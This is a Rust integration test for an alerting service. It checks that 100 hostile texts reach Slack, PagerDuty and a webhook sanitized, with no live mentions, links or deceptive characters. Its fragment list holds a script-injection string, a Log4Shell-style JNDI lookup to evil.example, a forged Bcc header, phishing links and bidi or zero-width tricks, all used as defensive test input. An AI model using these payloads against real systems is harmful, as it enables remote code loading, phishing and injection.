//! A hundred texts that want to be more than text, through every channel.

use std::time::Duration;

use rig::standins::slack::Message;
use rig::until;
use serde_json::{Value, json};

use crate::stage::Stage;

/// What attackers write into alerts.
const FRAGMENTS: [&str; 20] = [
    "<!channel> everybody",
    "<!here|here> look",
    "<@U0EVIL123> you",
    "<!subteam^S0EVIL|@oncall>",
    "<https://evil.example/login|your bank>",
    "https://evil.example/reset",
    "[click](https://evil.example)",
    "<a href=\"https://evil.example\">x</a><script>alert(1)</script>",
    "*bold* _slanted_ ~gone~ `code`",
    "```\n> quoted\n# heading\n```",
    "@channel @here @everyone",
    "&lt;!channel&gt; &amp;",
    ":rotating_light: {{7*7}} ${jndi:ldap://evil.example}",
    "right \u{202e}to left\u{202c} \u{2066}isolate\u{2069}",
    "zero\u{200b}width \u{feff}and \u{ad}soft",
    "bell\u{7} escape\u{1b}[2J null\u{0} tab\t",
    "first line\r\nsecond: forged\nBcc: x@evil.example",
    "\u{e0001}\u{e0041}tags \u{1f468}\u{200d}\u{1f469}",
    "quote \" backslash \\ brace } ]",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}algo",
];
/// Texts in all: each fragment alone, and joined to others.
const TEXTS: usize = 100;
/// Slack takes a message a second.
const TOLD_WITHIN: Duration = Duration::from_secs(200);
/// A text that is far too long.
const LONG: usize = 900 * 1024;

fn text(number: usize) -> String {
    let one = FRAGMENTS[number % FRAGMENTS.len()];
    let other = FRAGMENTS[(number * 7 + number / FRAGMENTS.len()) % FRAGMENTS.len()];
    match number / FRAGMENTS.len() {
        0 => one.to_owned(),
        1 => format!("{one} {other}"),
        2 => format!("{other}{one}{other}"),
        3 => format!("{one}\n{other}").repeat(60),
        _ => one.repeat(40),
    }
}

fn is_clean(text: &str) -> bool {
    let deceives = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{e0000}'..='\u{e007f}');
    !text.chars().any(|c| deceives(c) || (c.is_control() && c != '\n'))
}

/// No mention, no link, no markup of others: their text is `plain_text`, and in `mrkdwn` stands only our own.
fn check(message: &Message) {
    let preview = message.body["text"].as_str().expect("a text");
    assert!(!preview.contains(['<', '>']) && is_clean(preview), "{preview}");
    for block in message.body["blocks"].as_array().expect("blocks") {
        let fields = block
            .get("fields")
            .and_then(Value::as_array)
            .into_iter()
            .flatten();
        for text in block.get("text").into_iter().chain(fields) {
            let content = text["text"].as_str().expect("a text");
            assert!(is_clean(content), "{content:?}");
            if text["type"] == "mrkdwn" {
                assert!(
                    text["verbatim"] == true && !content.contains("evil") && !content.contains("<!"),
                    "{text}"
                );
                assert!(content.starts_with("```opsward explain"), "{text}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hundred_hostile_texts_are_text_in_every_channel() {
    let stage = Stage::start().await;
    stage
        .rule(
            "outage",
            json!({"match": {"types": ["outage"]}, "groupBy": ["host", "service"]}),
        )
        .await;
    for number in 0..TEXTS {
        let (host, mut message) = (format!("web-{number:03}"), text(number));
        if number + 1 == TEXTS {
            message = message.repeat(LONG / message.len());
        }
        let event = json!({"source": text(number), "event_type": "outage", "severity": "critical", "host": host,
                           "service": text(number + 3), "message": message, "labels": {"note": text(number + 5)}});
        let posted = stage
            .opsward
            .post("/api/v1/sources/webhook", event.to_string())
            .await;
        assert_eq!(posted.expect("posted").0, 202, "{number}");
    }
    let threads = until("everything told", TOLD_WITHIN, || async {
        let threads = stage.slack.service.threads();
        let (alerts, events) = (
            stage.pagerduty.service.alerts().len(),
            stage.hook.service.events().len(),
        );
        anyhow::ensure!(
            threads.len() == TEXTS && alerts == TEXTS && events == TEXTS,
            "{} {alerts} {events}",
            threads.len()
        );
        anyhow::Ok(threads)
    })
    .await
    .expect("everything told");
    for (message, _) in &threads {
        check(message);
    }
    for alert in stage.pagerduty.service.alerts().values() {
        let summary = alert.payload["summary"].as_str().expect("a summary");
        assert!(is_clean(summary) && !summary.contains('\n'), "{summary:?}");
    }
    for event in stage.hook.service.events() {
        assert!(
            is_clean(event["data"]["text"].as_str().expect("a sentence")),
            "{event}"
        );
    }
    let refused = [
        stage.slack.service.refused(),
        stage.pagerduty.service.refused(),
        stage.hook.service.refused(),
    ];
    assert!(refused.iter().all(Vec::is_empty), "{refused:?}");
    println!("{TEXTS} hostile texts: 0 mentions, 0 live links, 0 refused by Slack, PagerDuty and webhook");
}
